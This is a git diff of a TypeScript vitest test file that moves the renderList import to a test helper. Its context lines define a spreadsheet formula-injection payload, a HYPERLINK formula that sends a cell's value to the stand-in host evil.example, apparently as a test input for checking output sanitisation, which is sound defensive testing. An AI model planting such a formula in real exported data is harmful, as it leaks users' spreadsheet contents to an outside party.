@@ -6,7 +6,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startSandbox, type Sandbox } from '../../src/sandbox/library.js';
 import { envelope, f, startFaultServer, type FaultServer } from '../helpers/fault-server.js';
 import { runSched, spawnSched } from '../helpers/run.js';
-import { renderList } from '../../src/output/render.js';
+import { renderList } from '../helpers/render.js';
 import { createBufferIO } from '../helpers/buffer-io.js';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
